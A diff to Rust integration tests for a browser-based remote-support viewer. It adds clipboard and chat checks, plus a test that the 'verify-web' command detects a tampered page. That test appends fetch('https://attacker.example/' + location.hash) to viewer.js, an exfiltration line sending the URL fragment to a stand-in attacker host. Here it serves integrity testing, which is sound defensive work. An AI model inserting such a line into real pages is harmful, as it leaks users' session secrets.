@@ -17,6 +17,8 @@ use lifeline_tests::browser::{Browser, chromium};
 use lifeline_tests::peers::HostProcess;
 use lifeline_tests::x::{Xvfb, pattern_image};
 use lifeline_tests::{RelayProcess, audit_records, bin, relay_cli, wait_for};
+
+use crate::toolkit::{xclip_get, xclip_set};
 use serde_json::json;
 
 /// Whether the page's files are built beside the relay binary.
@@ -117,7 +119,7 @@ fn shot(b: &mut Browser, name: &str) {
 }
 
 /// The page joins, shows the X screen exactly, and types into an xterm.
-fn view_and_type(url: &str, code: &str, token: &str, x: &Xvfb, typed: &Path) {
+fn view_and_type(url: &str, code: &str, token: &str, x: &Xvfb, typed: &Path, host: &HostProcess) {
     let mut b = Browser::start();
     b.goto(&format!("{url}/"));
     wait_for("the page's module", || {
@@ -165,8 +167,38 @@ fn view_and_type(url: &str, code: &str, token: &str, x: &Xvfb, typed: &Path) {
     });
     assert_eq!(got, format!("{text}\n"));
 
+    clipboard_and_chat(&mut b, url, x, host);
+
     b.eval("document.querySelector('#disconnect').click()");
     state(&mut b, "ended");
+}
+
+/// The clipboard both ways through the browser's own clipboard (Unicode
+/// exact), and a chat message to the user.
+fn clipboard_and_chat(b: &mut Browser, url: &str, x: &Xvfb, host: &HostProcess) {
+    b.call(
+        "Browser.grantPermissions",
+        json!({"origin": url, "permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]}),
+    );
+    let out = "From the browser: ünïcode ✓";
+    b.eval(&format!("navigator.clipboard.writeText({})", json!(out)));
+    b.eval("document.querySelector('#clip-send').click()");
+    wait_for("the host's clipboard", || {
+        let o = xclip_get(&x.display);
+        (String::from_utf8_lossy(&o.stdout) == out).then_some(())
+    });
+    let back = "From the host: ✓ ß";
+    xclip_set(&x.display, back);
+    b.eval("document.querySelector('#clip-get').click()");
+    wait_for("the page's clipboard", || {
+        (b.eval("window.lifeline.clipboard") == json!(back)).then_some(())
+    });
+    assert_eq!(b.eval("navigator.clipboard.readText()"), json!(back));
+
+    b.fill("#chat input[name=text]", "Hello from the page");
+    b.eval("document.querySelector('#chat button').click()");
+    let chat = host.wait_event("chat");
+    assert_eq!(chat["text"], json!("Hello from the page"), "{chat}");
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -196,9 +228,10 @@ async fn a_technician_with_only_a_browser_sees_the_screen_and_types() {
     let token = token.trim().to_owned();
     let display = x.display.clone();
     let typed2 = typed.clone();
-    tokio::task::spawn_blocking(move || {
+    let _host = tokio::task::spawn_blocking(move || {
         let x = Xvfb::attach(&display, 640, 480);
-        view_and_type(&url, &code, &token, &x, &typed2);
+        view_and_type(&url, &code, &token, &x, &typed2, &host);
+        host
     })
     .await
     .unwrap();
@@ -220,4 +253,71 @@ async fn a_technician_with_only_a_browser_sees_the_screen_and_types() {
     let (rc, list, _) = relay_cli(&["audit", "list", "--data-dir", &d]);
     assert_eq!(rc, 0);
     assert!(list.contains("technician=wendy (browser)"), "{list}");
+}
+
+/// `lifeline-viewer verify-web`: the relay's page against the build's
+/// SHA256SUMS passes; a relay serving a changed `viewer.js` is named.
+#[test]
+fn verify_web_names_a_changed_page() {
+    let Some(files) = web_files() else {
+        assert!(
+            std::env::var_os("LIFELINE_REQUIRE_BROWSER").is_none(),
+            "the page's files are missing: run scripts/web build"
+        );
+        eprintln!("SKIPPED: no page files (scripts/web build)");
+        return;
+    };
+    let sums = files.join("SHA256SUMS");
+    let verify = |url: &str, ca: &Path| {
+        let out = std::process::Command::new(bin("lifeline-viewer"))
+            .args(["verify-web", url, "--sums"])
+            .arg(&sums)
+            .arg("--ca")
+            .arg(ca)
+            .output()
+            .unwrap();
+        let text = format!(
+            "{}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        );
+        (out.status.code(), text)
+    };
+
+    let data = tempfile::tempdir().unwrap();
+    let ca = data.path().join("ca.pem");
+    let relay = RelayProcess::start(data.path(), &["--web", "127.0.0.1:0"]);
+    let url = format!("{}/", relay.web.clone().unwrap());
+    let (code, text) = verify(&url, &ca);
+    assert_eq!(code, Some(0), "{text}");
+    assert!(text.contains("is the published one"), "{text}");
+    drop(relay);
+
+    // A relay serving a page with one more line in viewer.js.
+    let changed = tempfile::tempdir().unwrap();
+    for entry in std::fs::read_dir(&files).unwrap() {
+        let p = entry.unwrap().path();
+        std::fs::copy(&p, changed.path().join(p.file_name().unwrap())).unwrap();
+    }
+    let js = changed.path().join("viewer.js");
+    let mut body = std::fs::read_to_string(&js).unwrap();
+    body.push_str("\nfetch('https://attacker.example/' + location.hash);\n");
+    std::fs::write(&js, body).unwrap();
+    let data2 = tempfile::tempdir().unwrap();
+    let relay = RelayProcess::start(
+        data2.path(),
+        &[
+            "--web",
+            "127.0.0.1:0",
+            "--web-files",
+            changed.path().to_str().unwrap(),
+        ],
+    );
+    let url = format!("{}/", relay.web.clone().unwrap());
+    let (code, text) = verify(&url, &data2.path().join("ca.pem"));
+    assert_eq!(code, Some(1), "{text}");
+    assert!(
+        text.contains("NOT the published one") && text.contains("viewer.js"),
+        "{text}"
+    );
 }
